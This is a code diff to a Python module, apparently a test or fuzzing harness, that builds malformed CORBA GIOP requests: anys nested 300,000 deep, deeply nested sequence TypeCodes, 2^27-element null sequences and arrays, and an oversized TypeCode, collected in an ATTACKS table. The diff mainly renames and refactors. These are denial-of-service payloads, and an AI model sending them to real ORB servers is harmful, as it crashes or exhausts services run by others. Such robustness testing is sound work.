@@ -39,7 +39,9 @@ def _body(fill: Fill, little_endian: bool, base: int) -> bytes:
     return w.getvalue()
 
 
-def _nested_anys(depth: int) -> Fill:
+def fill_nested_anys(depth: int) -> Fill:
+    """An any holding an any holding ... ``depth`` deep, then a long."""
+
     def fill(w: CDRWriter) -> None:
         for _ in range(depth):
             w.ulong(TK_ANY)
@@ -49,7 +51,9 @@ def _nested_anys(depth: int) -> Fill:
     return fill
 
 
-def _nested_sequence_typecodes(depth: int) -> Fill:
+def fill_nested_sequence_typecodes(depth: int) -> Fill:
+    """An any whose TypeCode is sequence<sequence<...<long>>> ``depth`` deep, holding an empty sequence."""
+
     def fill(w: CDRWriter) -> None:
         tc = _u32(TK_LONG, w.little_endian)
         for _ in range(depth):  # each level: element type, then bound 0, in an encapsulation
@@ -70,6 +74,16 @@ def _encapsulation(payload: bytes, little_endian: bool) -> bytes:
     return _u32(len(payload) + 4, little_endian) + bytes((int(little_endian), 0, 0, 0)) + payload
 
 
+def fill_empty_sequence(count: int) -> Fill:
+    """An any holding a sequence<null> of ``count`` elements: a few octets on the wire."""
+    return _empty_elements(TK_SEQUENCE, count)
+
+
+def fill_empty_array(count: int) -> Fill:
+    """An any holding an array<null, ``count``>: its length is in the TypeCode, its elements take no octets."""
+    return _empty_elements(TK_ARRAY, count)
+
+
 def _empty_elements(kind: int, count: int) -> Fill:
     def fill(w: CDRWriter) -> None:
         w.ulong(kind)
@@ -80,7 +94,9 @@ def _empty_elements(kind: int, count: int) -> Fill:
     return fill
 
 
-def _big_typecode(size: int) -> Fill:
+def fill_big_typecode(size: int) -> Fill:
+    """An any holding a long, its TypeCode a struct's with a repository id of ``size`` octets."""
+
     def fill(w: CDRWriter) -> None:
         w.ulong(TK_STRUCT)
         w.encapsulation(lambda e: (e.string("IDL:" + "x" * size + ":1.0"), e.string("Big"), e.ulong(1),
@@ -96,31 +112,23 @@ def attack(fill: Fill) -> Attack:
 
 
 def nested_anys(depth: int, little_endian: bool = True, base: int = 0) -> bytes:
-    """An any holding an any holding ... ``depth`` deep, then a long."""
-    return _body(_nested_anys(depth), little_endian, base)
+    return _body(fill_nested_anys(depth), little_endian, base)
 
 
 def nested_sequence_typecodes(depth: int, little_endian: bool = True, base: int = 0) -> bytes:
-    """An any whose TypeCode is sequence<sequence<...<long>>> ``depth`` deep, holding an empty sequence."""
-    return _body(_nested_sequence_typecodes(depth), little_endian, base)
+    return _body(fill_nested_sequence_typecodes(depth), little_endian, base)
 
 
 def empty_elements(count: int, little_endian: bool = True, base: int = 0) -> bytes:
-    """An any holding a sequence<null> of ``count`` elements: a few octets on the wire."""
-    return _body(_empty_elements(TK_SEQUENCE, count), little_endian, base)
-
-
-def empty_array(count: int, little_endian: bool = True, base: int = 0) -> bytes:
-    """An any holding an array<null, ``count``>: its length is in the TypeCode, its elements take no octets."""
-    return _body(_empty_elements(TK_ARRAY, count), little_endian, base)
+    return _body(fill_empty_sequence(count), little_endian, base)
 
 
 ATTACKS: dict[str, Attack] = {
-    "any in any, 300,000 deep": attack(_nested_anys(300_000)),
-    "sequence TypeCodes, 8,000 deep": attack(_nested_sequence_typecodes(8_000)),
-    "sequence<null> of 2^27": attack(_empty_elements(TK_SEQUENCE, 1 << 27)),
-    "array<null, 2^27>": attack(_empty_elements(TK_ARRAY, 1 << 27)),
-    "a TypeCode of 128 KiB": attack(_big_typecode(128 * 1024)),
+    "any in any, 300,000 deep": attack(fill_nested_anys(300_000)),
+    "sequence TypeCodes, 8,000 deep": attack(fill_nested_sequence_typecodes(8_000)),
+    "sequence<null> of 2^27": attack(fill_empty_sequence(1 << 27)),
+    "array<null, 2^27>": attack(fill_empty_array(1 << 27)),
+    "a TypeCode of 128 KiB": attack(fill_big_typecode(128 * 1024)),
 }
 
 
@@ -134,10 +142,10 @@ def code_sets(char_set: int | None) -> tuple[ServiceContext, ...]:
 
 def request(
     value: Attack, version: Version = GIOP_1_2, little_endian: bool = True, fragmented: bool = False,
-    char_set: int | None = None, operation: str = "take", request_id: int = 1,
+    char_set: int | None = None, operation: str = "take", request_id: int = 1, key: bytes = b"Target",
 ) -> bytes:
-    """A Request for ``operation`` on the object key ``Target`` whose one argument is ``value``."""
-    msg = Request(request_id=request_id, response_flags=3, object_key=b"Target", operation=operation,
+    """A Request for ``operation`` on the object ``key`` whose one argument is ``value``."""
+    msg = Request(request_id=request_id, response_flags=3, object_key=key, operation=operation,
                   service_contexts=code_sets(char_set), version=version, little_endian=little_endian)
     return _message(msg, value, fragmented, Role.CLIENT)
 
